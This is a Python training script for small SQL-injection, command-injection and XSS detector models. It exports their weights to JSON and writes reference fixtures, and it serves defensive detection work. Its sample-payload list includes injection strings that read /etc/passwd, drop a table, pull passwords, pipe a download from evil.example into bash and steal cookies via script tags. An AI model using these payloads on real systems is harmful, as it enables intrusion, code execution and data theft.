"""Trains small desk-scale detector models and writes the committed fixtures.

Outputs, relative to the repository root:
  models/{sqli_cnn,osi_cnn,xss_forest,xss_mlp}.json   bundles in the JSON model format
  fixtures/inference/<model>_reference.json          50 (input, expected probability) pairs each
  fixtures/inference/payload_verdicts.json           end-to-end probabilities for sample payloads

Inputs are hash_ngram embeddings (tools/oracles/hash_embed.py) followed by the
handcrafted features (tools/oracles/features_oracle.py). Expected values come
from torch / scikit-learn, evaluated on the weights exactly as the engine
reads them back from JSON (parsed as float64, narrowed to float32).
"""
import json
import pathlib
import sys

import numpy as np
import torch
from sklearn.ensemble import RandomForestClassifier
from sklearn.metrics import f1_score
from sklearn.model_selection import train_test_split
from sklearn.neural_network import MLPClassifier
from sklearn.preprocessing import StandardScaler

ROOT = pathlib.Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT / "tools"))
sys.path.insert(0, str(ROOT / "tools" / "oracles"))
import corpora  # noqa: E402
import features_oracle  # noqa: E402
from hash_embed import hash_embed  # noqa: E402

SEED = 20240917
EMBED = {"sqli": 384, "osi": 384, "xss": 20}
ROWS = 2000
DICTS = features_oracle.all_dicts()
SAMPLE_PAYLOADS = {
    "sqli": ["1' UNION SELECT password FROM users--", "alice@example.com", "' OR '1'='1' --",
             "Order #4412 for bob", "1; DROP TABLE accounts--", "What is the best option from the menu?"],
    "osi": ["; cat /etc/passwd", "hello world", "| curl http://evil.example/s | bash",
            "Meet at 5pm; bring coffee", "&& whoami", "invoice-2231"],
    "xss": ["<img src=x onerror=alert(1)>", "alice@example.com", "<script>alert(document.cookie)</script>",
            "coffee (draft) menu?", "<svg onload=alert(1)>", "https://www.example.com/menu/12"],
}


def f9(x):
    return float("%.9g" % x)


def nested(a):
    if isinstance(a, np.ndarray):
        a = a.tolist()
    if isinstance(a, list):
        return [nested(x) for x in a]
    return f9(a)


def as_engine_reads(a):
    """Round-trips an array through the JSON text the engine parses."""
    return np.array(json.loads(json.dumps(nested(np.asarray(a, dtype=np.float64)))), dtype=np.float64).astype(np.float32)


def raw_input(kind, payload):
    feats = np.array(features_oracle.features(payload, DICTS)[kind], dtype=np.float32)
    return hash_embed(payload, EMBED[kind], 0), feats


def dataset(kind, seed):
    rows = corpora.labeled(kind, ROWS, seed)
    emb, feats, y = [], [], []
    for p, label in rows:
        e, f = raw_input(kind, p)
        emb.append(e)
        feats.append(f)
        y.append(label)
    return np.stack(emb), np.stack(feats), np.array(y, dtype=np.int64)


def scaler_for(feats):
    s = StandardScaler().fit(feats.astype(np.float64))
    return {"means": nested(s.mean_), "stds": nested(s.scale_)}


def scale(feats, scaler):
    m = np.array(scaler["means"])
    sd = np.array(scaler["stds"])
    out = feats.astype(np.float64)
    nz = sd != 0
    out[:, nz] = (out[:, nz] - m[nz]) / sd[nz]
    return out.astype(np.float32)


def assemble(emb, feats, scaler):
    return np.concatenate([emb, scale(feats, scaler) if scaler else feats], axis=1).astype(np.float32)


# ---- CNN ----

class Cnn(torch.nn.Module):
    def __init__(self):
        super().__init__()
        layers, ch = [], 1
        for f in (128, 256, 512):
            layers += [torch.nn.Conv1d(ch, f, 3), torch.nn.BatchNorm1d(f, eps=1e-3), torch.nn.ReLU(), torch.nn.MaxPool1d(2)]
            ch = f
        self.features = torch.nn.Sequential(*layers)
        self.head = torch.nn.Sequential(torch.nn.Linear(512, 256), torch.nn.ReLU(), torch.nn.Dropout(0.5), torch.nn.Linear(256, 1))

    def forward(self, x):
        h = self.features(x.unsqueeze(1)).amax(dim=2)
        return self.head(h).squeeze(1)


def train_cnn(x_tr, y_tr, x_va, y_va):
    torch.manual_seed(SEED)
    model = Cnn()
    opt = torch.optim.Adam(model.parameters(), lr=0.001)
    loss_fn = torch.nn.BCEWithLogitsLoss()
    xt, yt = torch.tensor(x_tr), torch.tensor(y_tr, dtype=torch.float32)
    xv, yv = torch.tensor(x_va), torch.tensor(y_va, dtype=torch.float32)
    best, best_state, stale = float("inf"), None, 0
    gen = torch.Generator().manual_seed(SEED)
    for epoch in range(20):
        model.train()
        perm = torch.randperm(len(xt), generator=gen)
        for i in range(0, len(xt), 32):
            idx = perm[i:i + 32]
            if len(idx) < 2:
                continue
            opt.zero_grad()
            loss_fn(model(xt[idx]), yt[idx]).backward()
            opt.step()
        model.eval()
        with torch.no_grad():
            val = loss_fn(model(xv), yv).item()
        print(f"  epoch {epoch + 1}: val loss {val:.4f}", file=sys.stderr)
        if val < best - 1e-6:
            best, best_state, stale = val, {k: v.clone() for k, v in model.state_dict().items()}, 0
        else:
            stale += 1
            if stale >= 5:
                break
    model.load_state_dict(best_state)
    model.eval()
    return model


def export_cnn(model, scaler, input_dim):
    layers = []
    mods = list(model.features)
    for i in range(0, len(mods), 4):
        conv, bn = mods[i], mods[i + 1]
        layers.append({"type": "conv1d", "filters": conv.out_channels, "kernel": 3,
                       "weights": nested(conv.weight.detach().numpy()), "bias": nested(conv.bias.detach().numpy())})
        layers.append({"type": "batch_norm", "gamma": nested(bn.weight.detach().numpy()), "beta": nested(bn.bias.detach().numpy()),
                       "mean": nested(bn.running_mean.numpy()), "var": nested(bn.running_var.numpy())})
        layers.append({"type": "max_pool", "size": 2})
    layers.append({"type": "global_max_pool"})
    d1, d2 = model.head[0], model.head[3]
    layers.append({"type": "dense", "weights": nested(d1.weight.detach().numpy()), "bias": nested(d1.bias.detach().numpy()), "activation": "relu"})
    layers.append({"type": "dense", "weights": nested(d2.weight.detach().numpy()), "bias": nested(d2.bias.detach().numpy()), "activation": "sigmoid"})
    return bundle("cnn1d", input_dim, scaler, layers=layers)


def reload_cnn(b):
    """A torch model holding exactly the float32 weights the engine parses."""
    m = Cnn()
    m.eval()
    mods = list(m.features)
    ls = b["layers"]
    with torch.no_grad():
        for blk in range(3):
            conv, bn = mods[blk * 4], mods[blk * 4 + 1]
            c, n = ls[blk * 3], ls[blk * 3 + 1]
            conv.weight.copy_(torch.tensor(as_engine_reads(c["weights"])))
            conv.bias.copy_(torch.tensor(as_engine_reads(c["bias"])))
            bn.weight.copy_(torch.tensor(as_engine_reads(n["gamma"])))
            bn.bias.copy_(torch.tensor(as_engine_reads(n["beta"])))
            bn.running_mean.copy_(torch.tensor(as_engine_reads(n["mean"])))
            bn.running_var.copy_(torch.tensor(as_engine_reads(n["var"])))
        for mod, layer in ((m.head[0], ls[10]), (m.head[3], ls[11])):
            mod.weight.copy_(torch.tensor(as_engine_reads(layer["weights"])))
            mod.bias.copy_(torch.tensor(as_engine_reads(layer["bias"])))
    return m


def cnn_prob(model, x):
    with torch.no_grad():
        return torch.sigmoid(model(torch.tensor(np.asarray(x, dtype=np.float32)))).double().numpy()


# ---- MLP and forest ----

def export_mlp(mlp, scaler, input_dim):
    layers = []
    n = len(mlp.coefs_)
    for i, (w, b) in enumerate(zip(mlp.coefs_, mlp.intercepts_)):
        layers.append({"type": "dense", "weights": nested(w.T), "bias": nested(b), "activation": "sigmoid" if i == n - 1 else "relu"})
    return bundle("mlp", input_dim, scaler, layers=layers)


def reload_mlp(mlp, b):
    for i, layer in enumerate(b["layers"]):
        mlp.coefs_[i] = as_engine_reads(layer["weights"]).astype(np.float64).T.copy()
        mlp.intercepts_[i] = as_engine_reads(layer["bias"]).astype(np.float64)
    return mlp


def export_forest(rf, input_dim):
    trees = []
    for est in rf.estimators_:
        t = est.tree_
        nodes = []
        for i in range(t.node_count):
            if t.children_left[i] == -1:
                v = t.value[i][0]
                nodes.append({"feature": -1, "value": float(v[1] / v.sum())})
            else:
                assert t.children_left[i] > i and t.children_right[i] > i
                nodes.append({"feature": int(t.feature[i]), "threshold": float(t.threshold[i]),
                              "left": int(t.children_left[i]), "right": int(t.children_right[i])})
        trees.append({"nodes": nodes})
    return bundle("forest", input_dim, None, trees=trees)


def bundle(kind, input_dim, scaler, layers=None, trees=None):
    b = {"format_version": 1, "kind": kind, "input_dim": input_dim, "feature_schema_version": 1}
    if scaler:
        b["scaler"] = scaler
    b["decision_threshold"] = 0.5
    if layers:
        b["layers"] = layers
    if trees:
        b["trees"] = trees
    return b


# ---- fixtures ----

def reference_inputs(x_test, dim, rng):
    real = x_test[rng.choice(len(x_test), 30, replace=False)]
    synthetic = rng.normal(0, 1, size=(20, dim)).astype(np.float32)
    return np.concatenate([real, synthetic]).astype(np.float32)


def write_json(path, obj):
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(obj, separators=(",", ":")) + "\n")
    print(f"wrote {path.relative_to(ROOT)} ({path.stat().st_size // 1024} KiB)", file=sys.stderr)


def reference(name, inputs, probs, note):
    assert len(inputs) == 50 and all(0.0 <= p <= 1.0 for p in probs)
    write_json(ROOT / "fixtures" / "inference" / f"{name}_reference.json", {
        "model": f"models/{name}.json",
        "note": note,
        "cases": [{"input": [float(v) for v in x], "expected": float(p)} for x, p in zip(inputs, probs)],
    })


def split(x, y, seed):
    x_tr, x_rest, y_tr, y_rest = train_test_split(x, y, test_size=0.3, stratify=y, random_state=seed)
    x_va, x_te, y_va, y_te = train_test_split(x_rest, y_rest, test_size=0.5, stratify=y_rest, random_state=seed)
    return x_tr, y_tr, x_va, y_va, x_te, y_te


def main():
    rng = np.random.default_rng(SEED)
    verdicts = []
    for kind in ("sqli", "osi"):
        print(f"training {kind} cnn", file=sys.stderr)
        emb, feats, y = dataset(kind, SEED + len(kind))
        idx = np.arange(len(y))
        tr, _, va, _, te, _ = split(idx, y, SEED)
        scaler = scaler_for(feats[tr])
        x = assemble(emb, feats, scaler)
        model = train_cnn(x[tr], y[tr], x[va], y[va])
        b = export_cnn(model, scaler, x.shape[1])
        exact = reload_cnn(b)
        p_te = cnn_prob(exact, x[te])
        print(f"  {kind} test F1 {f1_score(y[te], p_te >= 0.5):.4f}", file=sys.stderr)
        write_json(ROOT / "models" / f"{kind}_cnn.json", b)
        inputs = reference_inputs(x[te], x.shape[1], rng)
        reference(f"{kind}_cnn", inputs, cnn_prob(exact, inputs), "torch float32 forward pass")
        for p in SAMPLE_PAYLOADS[kind]:
            e, f = raw_input(kind, p)
            prob = float(cnn_prob(exact, assemble(e[None], f[None], scaler))[0])
            verdicts.append({"detector": kind, "payload": p, "probability": prob, "malicious": prob >= 0.5})

    print("training xss forest + mlp", file=sys.stderr)
    emb, feats, y = dataset("xss", SEED + 3)
    idx = np.arange(len(y))
    tr, _, va, _, te, _ = split(idx, y, SEED)
    raw = assemble(emb, feats, None)
    rf = RandomForestClassifier(n_estimators=10, random_state=SEED).fit(raw[tr], y[tr])
    scaler = scaler_for(feats[tr])
    scaled = assemble(emb, feats, scaler)
    mlp = MLPClassifier(hidden_layer_sizes=(32, 16), random_state=SEED, max_iter=600).fit(scaled[tr], y[tr])
    fb = export_forest(rf, raw.shape[1])
    mb = export_mlp(mlp, scaler, scaled.shape[1])
    mlp = reload_mlp(mlp, mb)
    ens = (rf.predict_proba(raw[te])[:, 1] + mlp.predict_proba(scaled[te].astype(np.float64))[:, 1]) / 2
    print(f"  xss test F1 forest {f1_score(y[te], rf.predict(raw[te])):.4f} "
          f"mlp {f1_score(y[te], mlp.predict(scaled[te])):.4f} ensemble {f1_score(y[te], ens >= 0.5):.4f}", file=sys.stderr)
    write_json(ROOT / "models" / "xss_forest.json", fb)
    write_json(ROOT / "models" / "xss_mlp.json", mb)
    f_in = reference_inputs(raw[te], raw.shape[1], rng)
    reference("xss_forest", f_in, rf.predict_proba(f_in)[:, 1], "scikit-learn predict_proba")
    m_in = reference_inputs(scaled[te], scaled.shape[1], rng)
    reference("xss_mlp", m_in, mlp.predict_proba(m_in.astype(np.float64))[:, 1], "scikit-learn predict_proba (float64)")
    for p in SAMPLE_PAYLOADS["xss"]:
        e, f = raw_input("xss", p)
        prob = float((rf.predict_proba(assemble(e[None], f[None], None))[0, 1]
                      + mlp.predict_proba(assemble(e[None], f[None], scaler).astype(np.float64))[0, 1]) / 2)
        verdicts.append({"detector": "xss", "payload": p, "probability": prob, "malicious": prob >= 0.5})
    write_json(ROOT / "fixtures" / "inference" / "payload_verdicts.json", verdicts)


if __name__ == "__main__":
    main()
